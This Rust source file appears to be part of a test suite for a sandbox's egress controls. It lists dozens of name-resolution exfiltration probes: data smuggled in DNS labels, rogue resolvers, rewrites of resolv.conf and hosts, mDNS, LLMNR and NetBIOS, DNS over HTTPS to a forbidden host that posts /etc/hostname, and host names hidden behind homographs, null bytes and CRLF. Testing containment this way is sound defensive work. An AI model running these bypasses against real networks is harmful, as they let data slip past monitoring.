//! Name resolution: what a query carries out of the bottle, and names that could mean another host.

use crate::table::{Attack, Group, recorded};

pub(crate) const ATTACKS: &[Attack] = &[
    tries("the system's resolver, a name with data in it", "lookup(f'{N}.example.com')"),
    tries("the system's resolver, below an allowed name", "lookup(f'{N}.{OUTSIDE}')"),
    tries("the system's resolver, a name without dots", "lookup(N)"),
    tries("the system's resolver, the longest labels", "lookup('.'.join([N.ljust(63, 'x'), 'y' * 63, 'z' * 63, 'test']))"),
    tries("the system's resolver, IPv6 addresses", "lookup(f'{N}.example.com', socket.AF_INET6)"),
    tries("a reverse query", "
for number in ('7', '8'):
    try: print(socket.gethostbyaddr(f'192.0.2.{number}'))
    except OSError as error: print(error)
dns('127.0.0.11', f'{N}.in-addr.arpa', 12); dns('127.0.0.1', f'{N}.in-addr.arpa', 12)"),
    tries("search domains from the environment", "sh('LOCALDOMAIN=$OUTSIDE RES_OPTIONS=ndots:9 getent ahosts $N; RES_OPTIONS=use-vc getent ahosts $N.example.com')"),
    tries("host aliases from the environment", "sh('echo \"$N $N.example.com\" >$D/aliases; HOSTALIASES=$D/aliases getent ahosts $N')"),
    tries("another resolver in resolv.conf", "
for server in (OUT, NEAR): write('/etc/resolv.conf', f'nameserver {server}\\n'); lookup(f'{N}.example.com')"),
    tries("another hosts file", "write('/etc/hosts', f'{NEAR} {OUTSIDE}\\n{OUT} {FORBIDDEN}\\n'); sh('curl -sS -m 5 https://$FORBIDDEN/$N; curl -sS -m 5 --noproxy \"*\" https://$OUTSIDE/$N')"),
    tries("another resolver for one process", "sh('curl -sS -m 5 --noproxy \"*\" --dns-servers $OUT https://$N.example.com/; curl -sS -m 5 --noproxy \"*\" --resolve $OUTSIDE:443:$OUT https://$OUTSIDE/echo?$N')"),
    tries("the engine's resolver over UDP", "for kind in (1, 28, 16, 15, 33, 255): dns('127.0.0.11', kind=kind)"),
    tries("the engine's resolver over TCP", "dns('127.0.0.11', over_tcp=True)"),
    tries("the engine's resolver on the port where it really listens", "
for table, tcp_ in (('udp', False), ('tcp', True)):
    for line in sysfile(f'/proc/net/{table}').splitlines()[1:]:
        address, port = line.split()[1].split(':')
        if address == '0B00007F': dns('127.0.0.11', port=int(port, 16), over_tcp=tcp_)"),
    tries("every resolver of resolv.conf", "
for line in sysfile('/etc/resolv.conf').splitlines():
    if line.startswith('nameserver'):
        for over_tcp in (False, True): dns(line.split()[1], over_tcp=over_tcp)"),
    tries("a resolver outside over UDP", "for kind in (1, 16, 255): dns(OUT, kind=kind)"),
    tries("a resolver outside over TCP", "dns(OUT, over_tcp=True)"),
    tries("a resolver outside, from a bound socket", "for device in DEVICES: dns(OUT, device=device); dns(FAR, device=device)"),
    tries("a resolver outside, over TLS and QUIC", "tcp(OUT, 853); udp(OUT, 853); udp(OUT, 784)"),
    tries("a resolver on the internal network", "dns(NEAR); dns(NEAR, over_tcp=True)
for device in DEVICES: dns(NEAR, device=device)"),
    tries("the sidecars as resolvers", "for to in (*SIDES, *SIDES_OUT): dns(to); dns(to, over_tcp=True)"),
    tries("the host as a resolver", "for to in (*HOSTS, GATEWAY): dns(to); dns(to, over_tcp=True)"),
    tries("a resolver on the loopback addresses", "for to in ('127.0.0.1', '127.0.0.53', '127.0.0.54', '127.1.1.1'): dns(to); dns(to, over_tcp=True)"),
    tries("multicast DNS", "dns('224.0.0.251', f'{N}.local', port=5353); lookup(f'{N}.local')
for own in OWN: udp('224.0.0.251', 5353, query(f'{N}.local'), options=[(0, 32, socket.inet_aton(own))])"),
    tries("link-local names (LLMNR)", "dns('224.0.0.252', N, port=5355)
for own in OWN: udp('224.0.0.252', 5355, query(N), options=[(0, 32, socket.inet_aton(own))])"),
    tries("NetBIOS names", "for to in ('255.255.255.255', EVERYONE): udp(to, 137, query(N, 32), options=[(1, 6, 1)])"),
    tries("DNS over HTTPS at a host that is not allowed", "sh('curl -sS -m 5 -H \"accept: application/dns-json\" \"https://$FORBIDDEN/dns-query?name=$N\"; curl -sS -m 5 --data-binary @/etc/hostname -H \"content-type: application/dns-message\" https://$FORBIDDEN/dns-query/$N; curl -sS -m 5 --doh-url https://$FORBIDDEN/dns-query --noproxy \"*\" https://$N.example.com')"),
    tries("DNS over HTTPS at an address", "sh('for to in $OUT 192.0.2.53; do curl -skS -m 5 \"https://$to/dns-query?name=$N\"; done')"),
    tries("the proxy asked for a name with data in it", "connect(f'{N}.example.com:443'); get(f'http://{N}.example.com/')"),
    tries("the proxy asked for a name below an allowed one", "connect(f'{N}.{OUTSIDE}:443'); get(f'http://{N}.{OUTSIDE}/'); connect(f'{N}.{API}:443')"),
    tries("the proxy asked for a longer name", "connect(f'{OUTSIDE}.{N}.example.com:443'); connect(f'{N}{OUTSIDE}:443'); get(f'http://{N}-{OUTSIDE}/')"),
    tries("a forbidden name in upper case and with a trailing dot", "for name in (FORBIDDEN.upper(), FORBIDDEN + '.', FORBIDDEN.title() + '..'): connect(f'{name}:80', send=f'GET /{N} HTTP/1.0\\r\\n\\r\\n'); get(f'http://{name}/{N}'); tunnel(f'{name}:443', f'GET /{N} HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n', sni=FORBIDDEN)"),
    tries("a forbidden name with escapes and a full-width dot", "for name in ('forbidden%2etest', 'forbidden\\u3002test', 'forbidden\\uff0etest', '%66orbidden.test', 'forb\\u00adidden.test', '\\u24d5orbidden.test'):
    name = name.encode().decode('latin-1'); connect(f'{name}:443'); get(f'http://{name}/{N}')"),
    tries("homographs of an allowed name", "for name in ('xn--utside-jbg.test', 'outsi\\u0501e.test', 'xn--outside-.test', 'outside.xn--test-'):
    name = name.encode().decode('latin-1'); tunnel(f'{name}:443', f'GET /{N} HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n', sni=OUTSIDE)"),
    tries("a name with a null byte, a space or a line end", "for end in ('\\0', ' ', '\\t', '%00', '\\r\\nX: ', '#', '?', '/', '\\\\'): get(f'http://{FORBIDDEN}{end}.{OUTSIDE}/{N}'); get(f'http://{OUTSIDE}{end}.{FORBIDDEN}/{N}', host=FORBIDDEN); connect(f'{FORBIDDEN}{end}{OUTSIDE}:80', send=f'GET /{N} HTTP/1.0\\r\\n\\r\\n')"),
    tries("names that mean the proxies themselves", "for name in ('localhost', 'pipelock', 'egress', 'supervise', 'git-gate', 'seal', 'ip6-localhost', 'localhost.localdomain', f'{OUT}.nip.io'): connect(f'{name}:9000', send=N); get(f'http://{name}/{N}')"),
    tries("as root: the system's resolver", "lookup(f'{N}.example.com'); lookup(f'{N}.{OUTSIDE}'); lookup(N)").as_root(),
    tries("as root: the engine's resolver over UDP and TCP", "for over_tcp in (False, True): dns('127.0.0.11', over_tcp=over_tcp)").as_root(),
    tries("as root: a resolver outside and on the internal network", "for to in (OUT, NEAR, *SIDES): dns(to); dns(to, over_tcp=True)").as_root(),
    tries("without egress: pipelock asked for a name with data in it", "connect(f'{N}.example.com:443'); get(f'http://{N}.example.com/'); connect(f'{N}.{OUTSIDE}:443'); get(f'http://{N}.{OUTSIDE}/')").in_plain(),
    tries("without egress: the resolvers", "lookup(f'{N}.example.com'); dns('127.0.0.11'); dns('127.0.0.11', over_tcp=True); dns(OUT); dns(NEAR)").in_plain(),
];

const fn tries(name: &'static str, program: &'static str) -> Attack {
    recorded(Group::Names, name, program)
}
